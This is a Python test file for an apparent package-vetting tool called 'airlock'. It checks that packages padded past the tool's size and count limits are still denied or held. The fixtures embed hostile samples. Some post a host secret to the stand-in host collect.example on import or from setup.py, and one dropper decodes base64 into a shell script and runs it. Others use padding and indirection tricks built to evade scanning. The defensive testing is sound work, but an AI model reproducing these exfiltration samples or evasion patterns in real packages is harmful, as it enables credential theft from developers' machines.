"""Size and count bounds of the walk of calls on import (ADR 0097).

Each bound below stopped the reading silently: what lay past it was not followed, and the
sender called on import was read only as code that runs when someone calls it: allowed. An
insider who reads airlock's code pads one past the bound. Now what fits the budgets is read
(a sender padded past 1 MiB is denied), and what does not is held.
"""

from __future__ import annotations

import hashlib
import itertools

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages import flowtypes, sinkevents
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
from tests.unit.imports.packages.test_vet_deeper import HEAD, SECRET, reexports, sender

CALL_GO = "from ._impl import go\ngo()\n"
HARMLESS = "import os\ndef f():\n    return os.environ.get('X')\n"
# A comment line of 100 bytes, each different: padding the parser reads fast (the bounds
# are on bytes) that does not compress past the archive reader's ratio bound.
LINE = "# padding {0:08d} {1}\n"


def padded(megabytes: float, tail: str) -> str:
    """``tail`` after ``megabytes`` MiB of comment lines."""
    count = int(megabytes * (1 << 20) / 100)
    hexes = (hashlib.sha256(b"%d" % i).hexdigest() for i in range(count))
    return "".join(LINE.format(i, (h + h)[:80]) for i, h in enumerate(hexes)) + tail


def docstring(megabytes: float, tail: str) -> str:
    """``tail`` after a module docstring of ``megabytes`` MiB."""
    return '"""' + padded(megabytes, "") + '"""\n' + tail


def generated_table(megabytes: float, tail: str) -> str:
    """A generated lookup table of ``megabytes`` MiB (pygments', idna's shape), then ``tail``."""
    row = "    ('{0:06d}', 'U+{0:06X} LATIN LETTER GENERATED ENTRY {0}'),\n"
    rows = int(megabytes * (1 << 20) / len(row.format(0)))
    return "TABLE = [\n" + "".join(row.format(i) for i in range(rows)) + "]\n" + tail


def chain(count: int, last: str = "send") -> str:
    """``f0`` calls ``f1`` ... calls ``last``."""
    names = [f"f{i}" for i in range(count)] + [last]
    return "".join(f"def {a}(*a):\n    {b}(*a)\n" for a, b in itertools.pairwise(names))


def homes(count: int) -> dict[str, str]:
    """``count`` harmless classes of other modules made on import, then the sender's class."""
    files = {
        f"evpkg/c{i}.py": f"import os\nclass C{i}:\n    def __init__(self):\n"
        "        self.x = os.environ.get('LANG')\n"
        for i in range(count)
    }
    made = "".join(f"from .c{i} import C{i}\nC{i}()\n" for i in range(count))
    files["evpkg/s.py"] = HEAD + (
        "class S:\n    def __init__(self):\n"
        f"        urllib.request.urlopen('https://collect.example/k', data={SECRET})\n"
    )
    return {**files, "evpkg/__init__.py": made + "from .s import S\nS()\n"}


def runs(count: int, payload: str) -> dict[str, str]:
    """``setup.py`` runs ``count`` harmless Python files as code, then ``payload``, which
    posts the host's secret when run."""
    files = {f"evpkg/h{i}.py": "x = 1\n" for i in range(count)}
    files[payload] = HEAD + f"urllib.request.urlopen('https://collect.example/k', data={SECRET})\n"
    calls = "".join(f"exec(open('evpkg/h{i}.py').read())\n" for i in range(count))
    last = f"exec(open('{payload}').read())\n"
    files["setup.py"] = f"from setuptools import setup\n{calls}{last}setup(name='evpkg')\n"
    return {**files, "evpkg/__init__.py": ""}


def dropper_run_first(runs: int) -> str:
    """A module whose ``start`` runs the file ``fetch`` writes decoded data to, with
    ``runs`` harmless runs in a function walked before both (functions are walked last to
    first): the run is matched to the write once the module is read (ADR 0041)."""
    pad = "".join(f"    subprocess.call(['true', '{i}'])\n" for i in range(runs))
    return (
        "import base64, os, subprocess\nB = 'ZWNobyBoaQ=='\n"
        "def fetch(d):\n    open(os.path.join(d, 'x.sh'), 'wb').write(base64.b64decode(B))\n"
        "def start(d):\n    subprocess.call(['sh', os.path.join(d, 'x.sh')])\n"
        f"def pad():\n{pad}"
    )


SENDER_CLASS = (
    "    def go(self):\n"
    f"        urllib.request.urlopen('https://collect.example/k', data={SECRET})\n"
)


def bases_in_one_module(count: int) -> dict[str, str]:
    """``B0().go()`` on import, ``go`` defined ``count`` bases up in the same module."""
    text = HEAD + f"class B{count}:\n{SENDER_CLASS}"
    for i in range(count - 1, -1, -1):
        text += f"class B{i}(B{i + 1}):\n    def noop(self):\n        return 1\n"
    return init(text + "B0().go()\n")


def bases_across_modules(count: int) -> dict[str, str]:
    """The same with each base in a module of its own."""
    files = {
        f"evpkg/b{i}.py": f"import os\nfrom .b{i + 1} import B{i + 1}\nclass B{i}(B{i + 1}):\n"
        "    def noop(self):\n        return os.environ.get('A')\n"
        for i in range(count)
    }
    files[f"evpkg/b{count}.py"] = HEAD + f"class B{count}:\n{SENDER_CLASS}"
    return {**files, "evpkg/__init__.py": "from .b0 import B0\nB0().go()\n"}


TOP_LEVEL_PADDING = "".join(f"x{i} = {i}\n" for i in range(25_000))

# Read within the budgets: the chain is read whole, as a small module's is.
DENIED = {
    # 1.2 MiB of docstring, then the function that posts AWS_SECRET_ACCESS_KEY.
    "sender-padded-past-1-mib-by-a-docstring": {
        "evpkg/__init__.py": CALL_GO,
        "evpkg/_impl.py": docstring(1.2, HEAD + sender("go")),
    },
    "sender-padded-past-1-mib-by-a-table": {
        "evpkg/__init__.py": CALL_GO,
        "evpkg/_impl.py": generated_table(1.2, HEAD + sender("go")),
    },
    # 25,000 assignments before the module imports urllib: its names past the top-level
    # walk's budget were unbound, and ``urllib.request.urlopen`` was no sink.
    "sender-after-25000-top-level-statements": {
        "evpkg/__init__.py": CALL_GO,
        "evpkg/_impl.py": TOP_LEVEL_PADDING + HEAD + sender("go"),
    },
    # 34 harmless classes of other modules made first: past the 32 the walk followed.
    "thirty-four-classes-of-other-modules-first": homes(34),
    # 260 harmless runs walked first: past the 256 runs kept to meet a later write.
    "dropper-after-260-runs": init(dropper_run_first(260)),
    # The sender's method nine bases up: past the eight looked up.
    "method-nine-bases-up-in-one-module": bases_in_one_module(9),
    "method-nine-bases-up-across-modules": bases_across_modules(9),
    # Member order is the attacker's (ADR 0179). A padded module first in the archive, with a
    # harmless call on import, stopped the cross-file pass: the small module after it that
    # calls the sender was never read, and nothing held.
    "sender-called-after-a-padded-module": {
        "evpkg/__init__.py": "",
        "evpkg/aa.py": padded(4.2, "from ._m import f\nT = f()\n"),
        "evpkg/_m.py": HARMLESS,
        "evpkg/zz.py": CALL_GO,
        "evpkg/_impl.py": HEAD + sender("go"),
    },
    # An ordinary module past the budget whose module level calls into the archive: it was
    # allowed unread (only ``setup.py`` and ``__init__.py`` held). Its module level was
    # parsed to learn that, so it is read (ADR 0179).
    "sender-called-by-a-module-past-the-archives-parse-budget": {
        "evpkg/__init__.py": "",
        "evpkg/zz.py": padded(4.2, CALL_GO),
        "evpkg/_impl.py": HEAD + sender("go"),
    },
    # Two harmless modules of 2.1 MiB first: the second no longer fit, and the pass stopped.
    "sender-called-after-large-harmless-modules": {
        "evpkg/__init__.py": "",
        "evpkg/aa.py": padded(2.1, "from ._m import f\nT = f()\n"),
        "evpkg/ab.py": padded(2.1, "from ._m import f\nT = f()\n"),
        "evpkg/_m.py": HARMLESS,
        "evpkg/zz.py": CALL_GO,
        "evpkg/_impl.py": HEAD + sender("go"),
    },
}
# Past the budgets: what was not read holds.
HELD = {
    "sender-past-the-archives-parse-budget": {
        "evpkg/__init__.py": CALL_GO,
        "evpkg/_impl.py": padded(4.2, HEAD + sender("go")),
    },
    "init-past-the-archives-parse-budget": {
        "evpkg/__init__.py": padded(4.2, CALL_GO),
        "evpkg/_impl.py": HEAD + sender("go"),
    },
    # The same after two harmless ``__init__.py`` files: the second does not fit what the
    # first left, and the pass stopped there before reaching the padded one.
    "init-past-the-parse-budget-after-others": {
        "evpkg/a/__init__.py": padded(3.0, "from ._m import f\nf()\n"),
        "evpkg/a/_m.py": "import os\ndef f():\n    return os.environ.get('X')\n",
        "evpkg/b/__init__.py": padded(1.5, "from ._m import f\nf()\n"),
        "evpkg/b/_m.py": "import os\ndef f():\n    return os.environ.get('X')\n",
        "evpkg/__init__.py": padded(4.2, CALL_GO),
        "evpkg/_impl.py": HEAD + sender("go"),
    },
    "seventeen-re-exports": reexports(17),
    # ``from ._impl import *; go()``, ``_impl`` past the parse budget.
    "star-import-past-the-parse-budget": {
        "evpkg/__init__.py": "from ._impl import *\ngo()\n",
        "evpkg/_impl.py": padded(4.2, HEAD + sender("go")),
    },
    # The payload kept under a data name, run seventeenth by setup.py (filesrun.MAX_RUNS is 16).
    "data-file-run-past-sixteen-runs": runs(16, "evpkg/payload.txt"),
}
ALLOWED = {
    # A large generated module (idna's, pygments') called on import, reading nothing sent.
    "generated-table-called-on-import": {
        "evpkg/__init__.py": CALL_GO,
        "evpkg/_impl.py": generated_table(
            1.2, "import os\ndef go():\n    return os.environ.get('LANG', TABLE[0])\n"
        ),
    },
    # The padded sender, never called on import: a library's API.
    "padded-sender-never-called": {
        "evpkg/__init__.py": "from ._impl import go\n",
        "evpkg/_impl.py": docstring(1.2, HEAD + sender("go")),
    },
    # A module past the budget that imports from its archive and uses none of it on import.
    "too-large-module-calling-nothing-on-import": {
        "evpkg/__init__.py": "",
        "evpkg/zz.py": padded(4.2, "from ._m import f\ndef g():\n    return f()\n"),
        "evpkg/_m.py": HARMLESS,
    },
    "too-large-sender-never-called": {
        "evpkg/__init__.py": "from ._impl import go\n",
        "evpkg/_impl.py": padded(4.2, HEAD + sender("go")),
    },
    # Deep on import, and nothing of the host's sent.
    "two-hundred-functions-that-log": init(
        "import logging\ndef send(*a):\n    logging.getLogger(__name__).debug('ready')\n"
        + chain(200)
        + "f0()\n"
    ),
    "seventeen-re-exports-never-called": {
        **reexports(17),
        "evpkg/__init__.py": "from .m0 import send\n",
    },
    "thirty-four-harmless-classes": {**homes(34), "evpkg/s.py": "class S:\n    pass\n"},
    # A build that runs twenty harmless Python files of its own (versioneer's shape).
    "twenty-python-files-run-by-setup": {
        **runs(20, "evpkg/h20.py"),
        "evpkg/h20.py": "x = 2\n",
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_bounds_of_the_walk(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(("count", "expected"), [(7, Outcome.DENY), (9, Outcome.HOLD)])
def test_classes_past_the_bound_hold(
    count: int, expected: Outcome, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past ``flowtypes.MAX_HOMES`` classes of other modules (lowered here to 8), the sender's
    class made on import was not followed: allowed. Now it holds."""
    monkeypatch.setattr(flowtypes, "MAX_HOMES", 8)
    assert vet_package(homes(count)) is expected


def test_runs_past_the_bound_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past ``sinkevents.MAX_UNMATCHED`` runs (lowered here to 64), a run walked before the write
    that drops its file was not matched to it: allowed. Now it holds."""
    monkeypatch.setattr(sinkevents, "MAX_UNMATCHED", 64)
    assert vet_package(init(dropper_run_first(60))) is Outcome.DENY
    assert vet_package(init(dropper_run_first(70))) is Outcome.HOLD


def test_bases_past_the_bound_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past ``flowtypes.MAX_BASES`` of one module's classes (lowered here to 4), the method
    called on import was not found: allowed (at 8 on 6059f8c). Now it holds."""
    monkeypatch.setattr(flowtypes, "MAX_BASES", 4)
    assert vet_package(bases_in_one_module(3)) is Outcome.DENY
    assert vet_package(bases_in_one_module(5)) is Outcome.HOLD
